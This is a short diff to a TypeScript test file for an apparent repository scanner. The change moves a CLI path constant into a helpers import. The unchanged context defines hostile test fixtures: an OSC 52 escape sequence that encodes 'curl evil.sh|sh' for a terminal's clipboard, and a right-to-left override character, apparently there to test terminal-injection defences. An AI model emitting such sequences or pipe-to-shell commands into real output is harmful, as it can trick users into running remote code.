@@ -15,9 +15,8 @@ import { scanRepository } from '../src/engine.js';
 import { Inventory } from '../src/inventory.js';
 import { startFakeJenkins, type FakeJenkins } from './fake-jenkins.js';
 import { createRemote, rewriteGitServer } from './git-remotes.js';
-import { ROOT, runAsync, runCli, serviceRepo } from './helpers.js';
+import { CLI, ROOT, runAsync, runCli, serviceRepo } from './helpers.js';
 
-const CLI = path.join(ROOT, 'dist/src/cli.js');
 /** An OSC 52 sequence: a terminal that obeys it puts "curl evil.sh|sh" on the clipboard. */
 const OSC52 = '\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07';
 /** RIGHT-TO-LEFT OVERRIDE: what follows it reads backwards. */
